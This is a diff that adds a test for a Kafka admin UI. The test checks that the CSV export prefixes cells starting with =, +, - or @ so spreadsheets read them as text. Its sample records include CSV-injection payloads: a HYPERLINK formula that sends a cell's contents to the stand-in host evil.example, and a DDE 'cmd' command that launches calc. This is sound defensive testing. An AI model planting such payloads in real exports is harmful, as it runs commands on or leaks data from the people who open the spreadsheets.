@@ -1,0 +1,40 @@
+// Hostile data in the Admin UI (issue 17): what a producer writes into records reaches the
+// operator's spreadsheet through the Messages page's CSV export. A cell starting with = + - @ (or
+// a tab or carriage return) is a formula to Excel, LibreOffice and Sheets (CSV injection,
+// `=cmd|' /C calc'!A0`, `=HYPERLINK(...)`), so the export writes such cells as text: a leading '.
+
+import { readFileSync } from 'node:fs';
+import kafkajs from 'kafkajs';
+import t from 'tap';
+import { launchChromium } from '../helpers/browser.js';
+import { OPERATOR, openUi, startUiBroker } from '../helpers/admin-ui.js';
+
+const { Kafka, logLevel } = kafkajs;
+
+const browser = await launchChromium(t);
+
+t.test('CSV export does not hand formulas from records to a spreadsheet', async (t) => {
+  const { plainPort, httpUrl } = await startUiBroker(t);
+  const kafka = new Kafka({ brokers: [`127.0.0.1:${plainPort}`], clientId: 'ui-hostile-test', logLevel: logLevel.NOTHING });
+  const admin = kafka.admin();
+  await admin.connect();
+  t.teardown(() => admin.disconnect());
+  await admin.createTopics({ topics: [{ topic: 'hostile', numPartitions: 1 }], waitForLeaders: true });
+  const producer = kafka.producer();
+  await producer.connect();
+  t.teardown(() => producer.disconnect());
+  await producer.send({ topic: 'hostile', messages: [{ key: '=HYPERLINK("http://evil.example/?"&A1,"x")', value: "+cmd|' /C calc'!A0", headers: { h: '@SUM(1)' } }] });
+  await producer.send({ topic: 'hostile', messages: [{ key: '-2+3', value: 'plain' }] });
+
+  const { page } = await openUi(browser, httpUrl, OPERATOR, '/topics/hostile/messages?tab=browse');
+  await page.getByTestId('browse-partition').selectOption('0');
+  await page.getByTestId('browse-offset').fill('0');
+  await page.getByTestId('browse-load').click();
+  await page.locator('[data-testid="browse-table"] tr[data-key="0-1"]').waitFor();
+  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-csv').click()]);
+  const text = readFileSync(await download.path(), 'utf8');
+  t.match(text, /,"'=HYPERLINK\(/, 'a key starting with = is written as text');
+  t.match(text, /,'\+cmd\|/, 'a value starting with + too');
+  t.match(text, /,'-2\+3,/, 'and one starting with -');
+  t.notMatch(text, /(^|,)"?[=+\-@\t\r]/m, 'no cell starts with a formula character');
+});
